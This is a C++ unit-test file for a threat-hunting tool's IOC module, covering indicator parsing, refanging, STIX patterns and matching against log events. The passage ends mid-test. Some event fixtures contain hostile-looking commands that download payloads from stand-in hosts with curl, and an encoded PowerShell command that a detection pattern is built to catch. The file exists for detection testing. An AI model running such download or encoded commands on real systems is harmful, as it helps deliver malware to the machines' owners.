// IOC sweeps (hunt/ioc.h): type detection, `type:value`, refanging, STIX bundles and patterns,
// and matching end to end through RunHunt.
#include "hunt/ioc.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "core/legal_time.h"
#include "hunt/engine.h"
#include "hunt/hunt.h"
#include "hunt/sigma/logsource.h"
#include "hunt/sigma/reference_evaluator.h"
#include "hunt/sigma/sigma_rule.h"

namespace ucsc::hunt {
namespace {

// Type and value of a line, or "error: reason".
std::string Line(std::string_view line) {
  auto t = ParseIocLine(line);
  if (!t) return "error: " + t.error().message;
  return std::string(IocTypeName(t->type)) + " " + t->value;
}

TEST(IocDetect, Ipv4) {
  EXPECT_EQ(Line("1.2.3.4"), "ipv4 1.2.3.4");
  EXPECT_EQ(Line("  8.8.8.8\t"), "ipv4 8.8.8.8");
  // Leading zeros are decimal (zero padding), not octal; events print no leading zeros.
  EXPECT_EQ(Line("010.001.002.003"), "ipv4 10.1.2.3");
  EXPECT_EQ(Line("1.2.3.4/32"), "ipv4 1.2.3.4");
  EXPECT_EQ(Line("ip:1.2.3.4"), "ipv4 1.2.3.4");
  EXPECT_EQ(Line("ipv4:256.1.1.1").rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("1.2.3").rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("ipv4:1.2.3.4.5").rfind("error: ", 0), 0u);
}

TEST(IocDetect, Ipv6AndNetworks) {
  EXPECT_EQ(Line("fe80::1"), "ipv6 fe80::1");
  EXPECT_EQ(Line("2001:0DB8:0000:0000:0000:0000:0000:0001"), "ipv6 2001:db8::1");
  EXPECT_EQ(Line("[2001:db8::1]"), "ipv6 2001:db8::1");
  EXPECT_EQ(Line("::1"), "ipv6 ::1");
  EXPECT_EQ(Line("2001:db8::/32"), "cidr 2001:db8::/32");
  EXPECT_EQ(Line("10.0.0.0/8"), "cidr 10.0.0.0/8");
  EXPECT_EQ(Line("cidr:10.0.0.0/33").rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("ipv6:1.2.3.4").rfind("error: ", 0), 0u);
}

TEST(IocDetect, HashesByLength) {
  EXPECT_EQ(Line(std::string(32, 'A')), "md5 " + std::string(32, 'a'));
  EXPECT_EQ(Line(std::string(40, 'b')), "sha1 " + std::string(40, 'b'));
  EXPECT_EQ(Line(std::string(64, 'c')), "sha256 " + std::string(64, 'c'));
  EXPECT_EQ(Line(std::string(128, 'd')), "sha512 " + std::string(128, 'd'));
  // Other lengths of hex are refused, not guessed.
  EXPECT_EQ(Line(std::string(33, 'a')).rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("deadbeef").rfind("error: ", 0), 0u);
  // An imphash looks like an MD5: only by name.
  EXPECT_EQ(Line("imphash:" + std::string(32, 'E')), "imphash " + std::string(32, 'e'));
  EXPECT_EQ(Line("sha256:" + std::string(63, 'a')).rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("md5:" + std::string(31, 'a') + "g").rfind("error: ", 0), 0u);
}

TEST(IocDetect, DomainsFileNamesAndUrls) {
  EXPECT_EQ(Line("Evil.COM"), "domain evil.com");
  EXPECT_EQ(Line("www.evil.co.uk."), "domain www.evil.co.uk");
  EXPECT_EQ(Line("*.evil.com"), "domain evil.com");
  EXPECT_EQ(Line("xn--80ak6aa92e.com"), "domain xn--80ak6aa92e.com");
  // Known file extensions win over TLDs; `domain:` forces the domain.
  EXPECT_EQ(Line("evil.exe"), "filename evil.exe");
  EXPECT_EQ(Line("invoice.zip"), "filename invoice.zip");
  EXPECT_EQ(Line("domain:invoice.zip"), "domain invoice.zip");
  EXPECT_EQ(Line("my tool.exe"), "filename my tool.exe");
  EXPECT_EQ(Line("https://evil.com/a?b=c"), "url https://evil.com/a?b=c");
  EXPECT_EQ(Line("evil.com/download/x.bin"), "url evil.com/download/x.bin");
  EXPECT_EQ(Line("url:http://x.org/a:b"), "url http://x.org/a:b");
  // `file://` is a URL, not the `file:` type prefix.
  EXPECT_EQ(Line("file://server/share/x.exe"), "url file://server/share/x.exe");
  EXPECT_EQ(Line("bad@evil.com"), "email bad@evil.com");
  EXPECT_EQ(Line("localhost").rfind("error: cannot tell the type", 0), 0u);
  EXPECT_EQ(Line("1.2.3.4.5").rfind("error: ", 0), 0u);
}

TEST(IocDetect, PathsAndRegistry) {
  EXPECT_EQ(Line("C:\\Windows\\Temp\\x.exe"), "filepath C:\\Windows\\Temp\\x.exe");
  EXPECT_EQ(Line("c:/temp/x.exe"), "filepath c:/temp/x.exe");
  EXPECT_EQ(Line("\\\\srv\\share\\x.dll"), "filepath \\\\srv\\share\\x.dll");
  EXPECT_EQ(Line("%APPDATA%\\x.exe"), "filepath %APPDATA%\\x.exe");
  EXPECT_EQ(Line("\\Device\\HarddiskVolume3\\x.exe"), "filepath \\Device\\HarddiskVolume3\\x.exe");
  EXPECT_EQ(Line("\\??\\C:\\x.exe"), "filepath \\??\\C:\\x.exe");
  EXPECT_EQ(Line("/tmp/.x/kworker"), "filepath /tmp/.x/kworker");
  // "C:" is a drive, not a type prefix.
  EXPECT_EQ(Line("filepath:C:\\a b\\c.exe"), "filepath C:\\a b\\c.exe");
  EXPECT_EQ(Line("HKEY_LOCAL_MACHINE\\Software\\Evil\\"), "registry HKLM\\Software\\Evil");
  EXPECT_EQ(Line("hkcu\\Software\\Run"), "registry HKCU\\Software\\Run");
  EXPECT_EQ(Line("\\REGISTRY\\MACHINE\\SYSTEM\\x"), "registry HKLM\\SYSTEM\\x");
  EXPECT_EQ(Line("filename:C:\\x.exe").rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("registry:Software\\x").rfind("error: ", 0), 0u);
  EXPECT_EQ(Line("commandline:-enc JAB"), "commandline -enc JAB");
}

TEST(IocDetect, Defanged) {
  EXPECT_EQ(Refang("hxxp://evil[.]com"), "http://evil.com");
  EXPECT_EQ(Refang("hXXps[:]//evil(.)com"), "https://evil.com");
  EXPECT_EQ(Refang("fxp://a{.}b[dot]c"), "ftp://a.b.c");
  EXPECT_EQ(Refang("bad[@]evil[.]com"), "bad@evil.com");
  EXPECT_EQ(Refang("1[.]2[.]3[.]4"), "1.2.3.4");
  // Not defanged: unchanged.
  EXPECT_EQ(Refang("C:\\hxxp\\x[1].exe"), "C:\\hxxp\\x[1].exe");
  EXPECT_EQ(Line("hxxps://evil[.]com/x"), "url https://evil.com/x");
  EXPECT_EQ(Line("evil[.]com"), "domain evil.com");
  EXPECT_EQ(Line("192.168.1[.]1"), "ipv4 192.168.1.1");
  EXPECT_EQ(Line("bad[at]evil[.]com"), "email bad@evil.com");
}

TEST(IocDetect, TypeNamesRoundTrip) {
  for (IocType t : {IocType::kIpv4, IocType::kIpv6, IocType::kCidr, IocType::kDomain, IocType::kUrl,
                    IocType::kMd5, IocType::kSha1, IocType::kSha256, IocType::kSha512,
                    IocType::kImphash, IocType::kEmail, IocType::kFileName, IocType::kFilePath,
                    IocType::kRegistry, IocType::kCommandLine}) {
    auto back = ParseIocType(IocTypeName(t));
    ASSERT_TRUE(back.has_value()) << IocTypeName(t);
    EXPECT_EQ(*back, t);
  }
  EXPECT_EQ(ParseIocType("Domain-Name"), IocType::kDomain);
  EXPECT_FALSE(ParseIocType("nonsense").has_value());
}

TEST(IocFile, CommentsBlankLinesRejectsAndDuplicates) {
  IocSet set;
  ParseIocText("# feed\n\n1.2.3.4\r\n  # indented comment\nnot an ioc\n1.2.3.4\nevil.com\n",
               "feed.txt", {}, &set);
  ASSERT_EQ(set.indicators.size(), 2u);
  EXPECT_EQ(set.indicators[0].source, "feed.txt:3");
  EXPECT_EQ(set.indicators[1].terms[0].type, IocType::kDomain);
  EXPECT_EQ(set.indicators[1].source, "feed.txt:7");
  ASSERT_EQ(set.rejected.size(), 1u);
  EXPECT_EQ(set.rejected[0].where, "feed.txt:5");
  EXPECT_NE(set.rejected[0].reason.find("type:value"), std::string::npos);
  EXPECT_EQ(set.duplicates, 1u);
}

TEST(IocFile, MissingFileIsNotFound) {
  IocSet set;
  auto st = LoadIocFile("/nonexistent/iocs.txt", {}, &set);
  ASSERT_FALSE(st.has_value());
  EXPECT_EQ(st.error().code, core::ErrorCode::kNotFound);
}

// The fuzz target's oracle on its corpus (fuzz/ioc_fuzz.cc; crash inputs are kept there): every
// kept equality term is already normal.
TEST(IocFuzzCorpus, KeptTermsAreNormal) {
  const std::filesystem::path dir = std::string(UCSC_SOURCE_DIR) + "/fuzz/corpus/ioc";
  ASSERT_TRUE(std::filesystem::exists(dir));
  std::size_t files = 0;
  for (const auto& entry : std::filesystem::directory_iterator(dir)) {
    std::ifstream in(entry.path(), std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    IocSet set;
    ParseIocText(text.str(), entry.path().filename().string(), {}, &set);
    ++files;
    for (const auto& ind : set.indicators) {
      for (const auto& t : ind.terms) {
        if (t.op != IocOp::kEquals) continue;
        auto again = NormalizeIoc(t.type, t.value);
        ASSERT_TRUE(again.has_value())
            << ind.source << " " << t.value << ": " << again.error().message;
        EXPECT_EQ(again->value, t.value) << ind.source;
        EXPECT_EQ(again->type, t.type) << ind.source;
      }
    }
  }
  EXPECT_GE(files, 4u);
}

// The line of the first fuzz crash: a registry root alone ("\registry\") lost its backslash and
// was no registry key any more.
TEST(IocDetect, RegistryRootAloneIsRefusedOrStable) {
  for (std::string_view v : {"\\registry\\", "\\REGISTRY", "HKEY_\\", "HKLM\\", "HKU"}) {
    auto t = ParseIocLine(v);
    if (!t) continue;
    auto again = NormalizeIoc(t->type, t->value);
    ASSERT_TRUE(again.has_value()) << v;
    EXPECT_EQ(again->value, t->value) << v;
  }
}

// --- STIX -----------------------------------------------------------------------------------

std::string Terms(std::string_view pattern) {
  auto dnf = ParseStixPattern(pattern);
  if (!dnf) return "error: " + dnf.error().message;
  std::string out;
  for (const auto& conj : *dnf) {
    if (!out.empty()) out += " | ";
    for (std::size_t i = 0; i < conj.size(); ++i) {
      if (i) out += " & ";
      out += std::string(IocTypeName(conj[i].type)) + "=" + conj[i].value;
      if (conj[i].op == IocOp::kLike) out += "(like)";
      if (conj[i].op == IocOp::kMatches) out += "(re)";
    }
  }
  return out;
}

TEST(StixPattern, Comparisons) {
  const std::string h(64, 'a');
  EXPECT_EQ(Terms("[file:hashes.'SHA-256' = '" + h + "']"), "sha256=" + h);
  EXPECT_EQ(Terms("[file:hashes.MD5 = '" + std::string(32, 'B') + "']"),
            "md5=" + std::string(32, 'b'));
  EXPECT_EQ(Terms("[ipv4-addr:value = '198.51.100.1/32']"), "ipv4=198.51.100.1");
  EXPECT_EQ(Terms("[ipv4-addr:value = '198.51.100.0/24']"), "cidr=198.51.100.0/24");
  EXPECT_EQ(Terms("[ipv6-addr:value = '2001:0db8:dead:beef:dead:beef:dead:0001/128']"),
            "ipv6=2001:db8:dead:beef:dead:beef:dead:1");
  EXPECT_EQ(Terms("[domain-name:value = 'Evil.com']"), "domain=evil.com");
  EXPECT_EQ(Terms("[url:value = 'http://x.org/it\\'s']"), "url=http://x.org/it's");
  EXPECT_EQ(Terms("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\x']"),
            "registry=HKLM\\Software\\x");
  EXPECT_EQ(Terms("[email-message:from_ref.value = 'a@b.org']"), "email=a@b.org");
  EXPECT_EQ(Terms("[email-message:to_refs[*].value = 'a@b.org']"), "email=a@b.org");
  EXPECT_EQ(Terms("[process:command_line = 'whoami /all']"), "commandline=whoami /all");
  EXPECT_EQ(Terms("[file:name = 'C:\\\\x\\\\y.exe']"), "filepath=C:\\x\\y.exe");
  EXPECT_EQ(Terms("[ipv4-addr:value ISSUBSET '10.0.0.0/8']"), "cidr=10.0.0.0/8");
}

TEST(StixPattern, OrAndInLikeMatches) {
  EXPECT_EQ(Terms("[domain-name:value = 'a.com' OR domain-name:value = 'b.com']"),
            "domain=a.com | domain=b.com");
  EXPECT_EQ(Terms("[domain-name:value = 'a.com'] OR [ipv4-addr:value = '1.2.3.4']"),
            "domain=a.com | ipv4=1.2.3.4");
  EXPECT_EQ(Terms("[file:name = 'x.exe' AND file:hashes.MD5 = '" + std::string(32, 'c') + "']"),
            "filename=x.exe & md5=" + std::string(32, 'c'));
  // AND binds tighter than OR; parentheses regroup.
  EXPECT_EQ(Terms("[file:name = 'a.exe' OR file:name = 'b.exe' AND process:name = 'c.exe']"),
            "filename=a.exe | filename=b.exe & filename=c.exe");
  EXPECT_EQ(Terms("[(file:name = 'a.exe' OR file:name = 'b.exe') AND process:name = 'c.exe']"),
            "filename=a.exe & filename=c.exe | filename=b.exe & filename=c.exe");
  EXPECT_EQ(Terms("[ipv4-addr:value IN ('1.1.1.1', '2.2.2.2')]"), "ipv4=1.1.1.1 | ipv4=2.2.2.2");
  EXPECT_EQ(Terms("[file:name LIKE 'inv%.exe']"), "filename=inv%.exe(like)");
  EXPECT_EQ(Terms("[process:command_line MATCHES '^powershell.*-enc']"),
            "commandline=^powershell.*-enc(re)");
  EXPECT_EQ(Terms("([domain-name:value = 'a.com'])"), "domain=a.com");
}

TEST(StixPattern, UnsupportedIsRefusedWithAReason) {
  auto reason = [](std::string_view p) {
    auto r = ParseStixPattern(p);
    return r ? std::string("accepted") : r.error().message;
  };
  EXPECT_NE(reason("[domain-name:value = 'a.com'] FOLLOWEDBY [domain-name:value = 'b.com']")
                .find("FOLLOWEDBY"),
            std::string::npos);
  EXPECT_NE(reason("[domain-name:value = 'a.com'] WITHIN 600 SECONDS").find("WITHIN"),
            std::string::npos);
  EXPECT_NE(reason("[domain-name:value = 'a.com'] START t'2016-06-01T00:00:00Z' STOP "
                   "t'2016-07-01T00:00:00Z'")
                .find("START"),
            std::string::npos);
  EXPECT_NE(reason("[domain-name:value = 'a.com'] REPEATS 5 TIMES").find("REPEATS"),
            std::string::npos);
  EXPECT_NE(
      reason("[domain-name:value = 'a.com'] AND [domain-name:value = 'b.com']").find("two events"),
      std::string::npos);
  EXPECT_NE(reason("[file:size > 100]").find("not supported"), std::string::npos);
  EXPECT_NE(reason("[domain-name:value != 'a.com']").find("!="), std::string::npos);
  EXPECT_NE(reason("[domain-name:value NOT = 'a.com']").find("NOT"), std::string::npos);
  EXPECT_NE(reason("[x509-certificate:serial_number = '1']").find("x509-certificate"),
            std::string::npos);
  EXPECT_NE(reason("[domain-name:value = 'a.com'").find("]"), std::string::npos);
  EXPECT_NE(reason("[domain-name:value = 'unterminated]").find("string"), std::string::npos);
  EXPECT_NE(reason("[ipv4-addr:value = 'not-an-ip']").find("IP"), std::string::npos);
  EXPECT_NE(reason("[process:command_line MATCHES '(']").find("regular expression"),
            std::string::npos);
  EXPECT_NE(reason(std::string(200, '(') + "[domain-name:value = 'a.com']" + std::string(200, ')'))
                .find("deeply"),
            std::string::npos);
  EXPECT_EQ(reason(""), "expected [ or ( but found end of pattern");
  // 13 ANDed pairs expand to 8,192 combinations: refused; a long IN list is fine.
  std::string product = "[";
  for (int i = 0; i < 13; ++i) {
    if (i) product += " AND ";
    product += "(file:name = 'a" + std::to_string(i) + ".exe' OR file:name = 'b.exe')";
  }
  EXPECT_NE(reason(product + "]").find("4,096"), std::string::npos);
  std::string in = "[ipv4-addr:value IN (";
  for (int i = 0; i < 1000; ++i)
    in +=
        (i ? ", '10.0." : "'10.0.") + std::to_string(i / 250) + "." + std::to_string(i % 250) + "'";
  auto many = ParseStixPattern(in + ")]");
  ASSERT_TRUE(many.has_value()) << many.error().message;
  EXPECT_EQ(many->size(), 1000u);
}

const char* kBundle = R"({
  "type": "bundle", "id": "bundle--1",
  "objects": [
    {"type": "identity", "id": "identity--1", "name": "ACME"},
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a",
     "name": "C2 domains", "pattern_type": "stix",
     "pattern": "[domain-name:value = 'c2.example' OR domain-name:value = 'c3.example']",
     "valid_from": "2020-01-01T00:00:00Z"},
    {"type": "indicator", "id": "indicator--b", "pattern_type": "stix",
     "pattern": "[file:name = 'dropper.exe' AND file:hashes.'SHA-256' = 'ABABABABABABABABABABABABABABABABABABABABABABABABABABABABABABABAB']"},
    {"type": "indicator", "id": "indicator--old", "pattern_type": "stix",
     "pattern": "[ipv4-addr:value = '5.5.5.5']", "valid_until": "2021-01-01T00:00:00Z"},
    {"type": "indicator", "id": "indicator--revoked", "pattern_type": "stix", "revoked": true,
     "pattern": "[ipv4-addr:value = '6.6.6.6']"},
    {"type": "indicator", "id": "indicator--snort", "pattern_type": "snort",
     "pattern": "alert tcp any any -> any any"},
    {"type": "indicator", "id": "indicator--fb", "pattern_type": "stix",
     "pattern": "[ipv4-addr:value = '7.7.7.7'] FOLLOWEDBY [ipv4-addr:value = '8.8.8.8']"},
    {"type": "indicator", "id": "indicator--nopattern", "pattern_type": "stix"}
  ]
})";

TEST(StixBundle, IndicatorsKeptSkippedAndRefused) {
  IocSet set;
  IocParseOptions opts;
  opts.now = core::ParseRfc3339("2026-12-01T00:00:00Z");
  ParseIocText(kBundle, "feed.json", opts, &set);
  ASSERT_EQ(set.indicators.size(), 3u);  // two from the OR, one AND
  EXPECT_EQ(set.indicators[0].stix_id, "indicator--a");
  EXPECT_EQ(set.indicators[0].name, "C2 domains");
  EXPECT_EQ(set.indicators[1].terms[0].value, "c3.example");
  ASSERT_EQ(set.indicators[2].terms.size(), 2u);
  std::string lower_hash;
  for (int i = 0; i < 32; ++i) lower_hash += "ab";
  EXPECT_EQ(set.indicators[2].terms[1].type, IocType::kSha256);
  EXPECT_EQ(set.indicators[2].terms[1].value, lower_hash);
  EXPECT_EQ(set.expired, 1u);
  EXPECT_EQ(set.revoked, 1u);
  ASSERT_EQ(set.rejected.size(), 3u);
  EXPECT_EQ(set.rejected[0].where, "feed.json: indicator--snort");
  EXPECT_NE(set.rejected[0].reason.find("snort"), std::string::npos);
  EXPECT_EQ(set.rejected[1].where, "feed.json: indicator--fb");
  EXPECT_NE(set.rejected[1].reason.find("FOLLOWEDBY"), std::string::npos);
  EXPECT_NE(set.rejected[2].reason.find("pattern"), std::string::npos);

  // Without a clock nothing expires.
  IocSet all;
  ParseIocText(kBundle, "feed.json", {}, &all);
  EXPECT_EQ(all.indicators.size(), 4u);
  EXPECT_EQ(all.expired, 0u);
}

TEST(StixBundle, MalformedJsonIsOneRejection) {
  for (std::string_view bad :
       {R"({"type":"bundle","objects":[)", R"({"type":"bundle"})", R"({"type":"report"})",
        R"({"type":"bundle","objects":[1,"x",null,{"type":"indicator","pattern":7}]})", "{\xff}"}) {
    IocSet set;
    ParseIocText(bad, "bad.json", {}, &set);
    EXPECT_TRUE(set.indicators.empty()) << bad;
    EXPECT_EQ(set.rejected.size(), 1u) << bad;
  }
}

// --- End to end through the engine ---------------------------------------------------------

struct Sweep {
  std::vector<Rule> rules;
  LogSourceMap map;
  IocSweep sweep;
  std::unique_ptr<Plan> plan;
};

std::vector<nlohmann::json> Hunt(const std::string& iocs, const std::string& jsonl,
                                 std::size_t* rules_out = nullptr) {
  IocSet set;
  ParseIocText(iocs, "iocs", {}, &set);
  EXPECT_TRUE(set.rejected.empty()) << set.rejected.front().ToString();
  auto map = LogSourceMap::Parse(LogSourceMap::DefaultText());
  EXPECT_TRUE(map.has_value());
  std::vector<Rule> rules;
  const IocSweep sweep = IocSweep::Add(std::move(set.indicators), &rules, &*map);
  if (rules_out) *rules_out = rules.size();
  auto plan = Plan::Compile(rules, *map);
  EXPECT_TRUE(plan.has_value());
  EXPECT_EQ((*plan)->stats().unrouted, 0u);
  const auto dir =
      std::filesystem::temp_directory_path() / ("ioc_test_" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  const std::string input = (dir / "events.jsonl").string();
  std::ofstream(input) << jsonl;
  HuntOptions opts;
  opts.inputs = {input};
  opts.detection_extra = [&sweep](std::size_t r, const Event& e) { return sweep.Describe(r, e); };
  std::ostringstream out, err;
  RunHunt(rules, **plan, opts, out, err);
  std::filesystem::remove_all(dir);
  std::vector<nlohmann::json> lines;
  std::istringstream in(out.str());
  std::string line;
  while (std::getline(in, line)) lines.push_back(nlohmann::json::parse(line));
  return lines;
}

// "record indicator field" of each detection, in output order.
std::vector<std::string> RecordIndicatorField(const std::vector<nlohmann::json>& detections) {
  std::vector<std::string> out;
  for (const auto& x : detections) {
    out.push_back(std::to_string(x["record"].get<int>()) + " " +
                  x["ioc"]["value"].get<std::string>() + " " +
                  x["ioc"]["field"].get<std::string>());
  }
  return out;
}

TEST(IocSweep, MatchesEachTypeInItsFieldsAndNamesTheIndicator) {
  const std::string iocs =
      "1.2.3.4\n"
      "2001:db8::5\n"
      "10.9.0.0/16\n"
      "evil.com\n"
      "hxxps://bad[.]org/payload\n"
      "44d88612fea8a8f36de82e1278abb02f\n"
      "evil.exe\n"
      "C:\\Temp\\stage2.dll\n"
      "HKCU\\Software\\Evil\n"
      "phish@mail.example\n";
  const std::string events =
      R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":3,"DestinationIp":"1.2.3.4"})"
      "\n"
      R"({"src_ip":"10.9.8.7","dst_ip":"192.0.2.1"})"
      "\n"
      R"({"SourceAddress":"2001:db8:0:0:0:0:0:5"})"
      "\n"
      R"({"QueryName":"cdn.EVIL.com"})"
      "\n"
      R"({"QueryName":"notevil.com","DestinationIp":"1.2.3.44"})"
      "\n"
      R"({"CommandLine":"curl https://bad.org/payload -o x"})"
      "\n"
      R"({"Hashes":"SHA1=00,MD5=44D88612FEA8A8F36DE82E1278ABB02F,IMPHASH=11"})"
      "\n"
      R"({"Image":"C:\\Users\\a\\EVIL.EXE"})"
      "\n"
      R"({"Image":"C:\\Users\\a\\notevil.exe"})"
      "\n"
      R"({"ImageLoaded":"c:\\temp\\stage2.dll"})"
      "\n"
      R"({"TargetObject":"HKU\\S-1-5-21-1\\Software\\Evil\\Run"})"
      "\n"
      R"({"Sender":"Phish@Mail.Example"})"
      "\n"
      R"({"Message":"1.2.3.4 evil.com in a field that carries neither"})"
      "\n";
  const auto d = Hunt(iocs, events);
  std::vector<std::string> got;
  for (const auto& x : d) {
    got.push_back(std::to_string(x["record"].get<int>()) + " " +
                  x["ioc"]["type"].get<std::string>() + " " + x["ioc"]["value"].get<std::string>() +
                  " " + x["ioc"]["field"].get<std::string>());
  }
  const std::vector<std::string> want = {
      "1 ipv4 1.2.3.4 DestinationIp",
      "2 cidr 10.9.0.0/16 src_ip",
      "3 ipv6 2001:db8::5 SourceAddress",
      "4 domain evil.com QueryName",
      "6 url https://bad.org/payload CommandLine",
      "7 md5 44d88612fea8a8f36de82e1278abb02f Hashes",
      "8 filename evil.exe Image",
      "10 filepath C:\\Temp\\stage2.dll ImageLoaded",
      "11 registry HKCU\\Software\\Evil TargetObject",
      "12 email phish@mail.example Sender",
  };
  EXPECT_EQ(got, want);
  ASSERT_FALSE(d.empty());
  EXPECT_EQ(d[0]["rule_id"], "ucsc-ioc-ip");
  EXPECT_EQ(d[0]["level"], "high");
  EXPECT_EQ(d[0]["ioc"]["source"], "iocs:1");
  EXPECT_FALSE(d[0]["ioc"].contains("stix_id"));
}

TEST(IocSweep, StixAndNeedsAllTermsOnOneEvent) {
  const std::string sha(64, 'a');
  const std::string bundle =
      R"({"type":"bundle","objects":[{"type":"indicator","id":"indicator--x","name":"dropper",)"
      R"("pattern_type":"stix","pattern":"[file:name = 'drop.exe' AND file:hashes.'SHA-256' = ')" +
      sha + R"(']"}]})";
  const std::string events = R"({"Image":"C:\\x\\drop.exe","Hashes":"SHA256=)" + sha + "\"}\n" +
                             R"({"Image":"C:\\x\\drop.exe","Hashes":"SHA256=)" +
                             std::string(64, 'b') + "\"}\n" +
                             R"({"Image":"C:\\x\\other.exe","SHA256":")" + sha + "\"}\n";
  const auto d = Hunt(bundle, events);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0]["record"], 1);
  EXPECT_EQ(d[0]["rule_id"], "indicator--x");
  EXPECT_EQ(d[0]["ioc"]["stix_id"], "indicator--x");
  EXPECT_EQ(d[0]["ioc"]["name"], "dropper");
  EXPECT_EQ(d[0]["ioc"]["type"], "filename");
  EXPECT_EQ(d[0]["ioc"]["field"], "Image");
  EXPECT_EQ(d[0]["ioc"]["terms"], 2);
}

TEST(IocSweep, StixLikeAndMatches) {
  const std::string bundle =
      R"({"type":"bundle","objects":[)"
      R"({"type":"indicator","id":"indicator--l","pattern_type":"stix",)"
      R"("pattern":"[file:name LIKE 'inv%.exe']"},)"
      R"({"type":"indicator","id":"indicator--m","pattern_type":"stix",)"
      R"("pattern":"[process:command_line MATCHES '-[eE]nc [A-Za-z0-9+/=]{8,}']"}]})";
  const std::string events = R"({"Image":"C:\\Users\\a\\invoice_2024.exe"})"
                             "\n"
                             R"({"Image":"C:\\Users\\a\\report.exe"})"
                             "\n"
                             R"({"CommandLine":"powershell -enc SQBFAFgAIAAo"})"
                             "\n"
                             R"({"CommandLine":"powershell -enc abc"})"
                             "\n";
  const auto d = Hunt(bundle, events);
  ASSERT_EQ(d.size(), 2u);
  EXPECT_EQ(d[0]["record"], 1);
  EXPECT_EQ(d[0]["ioc"]["stix_id"], "indicator--l");
  EXPECT_EQ(d[0]["ioc"]["operator"], "LIKE");
  EXPECT_EQ(d[1]["record"], 3);
  EXPECT_EQ(d[1]["ioc"]["stix_id"], "indicator--m");
  EXPECT_EQ(d[1]["ioc"]["field"], "CommandLine");
}

TEST(IocSweep, LookupsFollowTheShapesEventsUse) {
  const std::string iocs =
      "9.9.9.9\n"
      "evil.net\n"
      "http://dl.example.org/a/\n"
      "example.biz/drop\n"
      "imphash:" +
      std::string(32, 'f') + "\n" +
      "%APPDATA%\\Roaming\\upd.exe\n"
      "HKLM\\SOFTWARE\\Bad\n"
      "whoami.exe\n";
  const std::string events = R"({"IpAddress":"::ffff:9.9.9.9"})"
                             "\n"
                             R"({"CommandLine":"cmd /c curl \"https://cdn.EVIL.net:8443/x\" -o a"})"
                             "\n"
                             R"({"url":"HTTP://dl.example.org/a/b.bin?x=1"})"
                             "\n"
                             R"({"url":"http://dl.example.org/ab"})"
                             "\n"
                             R"({"request.url":"https://example.biz/drop/1"})"
                             "\n"
                             R"({"Hashes":"MD5=00,IMPHASH=)" +
                             std::string(32, 'F') +
                             "\"}\n"
                             R"({"TargetFilename":"C:\\Users\\u\\AppData\\Roaming\\upd.exe"})"
                             "\n"
                             R"({"ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Bad\\Sub"})"
                             "\n"
                             R"({"TargetObject":"HKLM\\SOFTWARE\\Badness"})"
                             "\n"
                             R"({"process.executable":"/usr/bin/whoami.exe"})"
                             "\n"
                             R"({"QueryName":"evil.net.attacker.example"})"
                             "\n";
  const std::vector<std::string> got = RecordIndicatorField(Hunt(iocs, events));
  const std::vector<std::string> want = {
      "1 9.9.9.9 IpAddress",
      "2 evil.net CommandLine",
      "3 http://dl.example.org/a/ url",
      "5 example.biz/drop request.url",
      "6 " + std::string(32, 'f') + " Hashes",
      "7 %APPDATA%\\Roaming\\upd.exe TargetFilename",
      "8 HKLM\\SOFTWARE\\Bad ObjectName",
      "10 whoami.exe process.executable",
  };
  EXPECT_EQ(got, want);
}

// Security events name files by volume device (4663 ObjectName, 5156 Application), Sysmon by
// drive letter; the Win32 namespace prefixes \\?\ and \??\ are dropped. Which volume is which
// drive is not in the events, so a device path matches a drive-letter indicator with the same
// path after the volume (and the other way round); drive against drive and device against device
// still compare the whole path.
TEST(IocSweep, FilePathsMatchAcrossDriveAndDeviceForms) {
  const std::string iocs =
      "C:\\Users\\u\\evil.exe\n"
      "\\Device\\HarddiskVolume3\\Tools\\bad.dll\n"
      "D:\\Data\\x.bin\n"
      "HKLM\\SOFTWARE\\Bad\n";
  const std::string events = R"({"ObjectName":"\\Device\\HarddiskVolume2\\Users\\u\\evil.exe"})"
                             "\n"
                             R"({"Image":"\\??\\C:\\Users\\U\\EVIL.EXE"})"
                             "\n"
                             R"({"Image":"\\\\?\\c:\\users\\u\\evil.exe"})"
                             "\n"
                             R"({"ImageLoaded":"E:\\Tools\\bad.dll"})"
                             "\n"
                             R"({"ImageLoaded":"\\Device\\HarddiskVolume4\\Tools\\bad.dll"})"
                             "\n"
                             R"({"TargetFilename":"C:\\Data\\x.bin"})"
                             "\n"
                             R"({"Application":"\\device\\harddiskvolume1\\data\\x.bin"})"
                             "\n"
                             R"({"ObjectName":"\\Device\\HarddiskVolume2\\Users\\u\\evil.exe.bak"})"
                             "\n"
                             R"({"ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Bad"})"
                             "\n"
                             R"({"Image":"\\Device\\HarddiskVolumeX\\Users\\u\\evil.exe"})"
                             "\n";
  const std::vector<std::string> got = RecordIndicatorField(Hunt(iocs, events));
  const std::vector<std::string> want = {
      "1 C:\\Users\\u\\evil.exe ObjectName",
      "2 C:\\Users\\u\\evil.exe Image",
      "3 C:\\Users\\u\\evil.exe Image",
      "4 \\Device\\HarddiskVolume3\\Tools\\bad.dll ImageLoaded",
      "7 D:\\Data\\x.bin Application",
      "9 HKLM\\SOFTWARE\\Bad ObjectName",
  };
  EXPECT_EQ(got, want);
}

TEST(IocSweep, EngineAgreesWithTheReferenceEvaluator) {
  // The optimised plan and the plain AST walk give the same hits on IOC rules (set rules and
  // rules of one indicator).
  IocSet set;
  ParseIocText(R"({"type":"bundle","objects":[)"
               R"({"type":"indicator","id":"indicator--1","pattern":"[file:name = 'a.exe' AND )"
               R"(ipv4-addr:value = '1.1.1.1']"},)"
               R"({"type":"indicator","id":"indicator--2","pattern":"[domain-name:value IN )"
               R"(('x.org','y.org')] OR [file:name LIKE 'b_.dll']"}]})",
               "b.json", {}, &set);
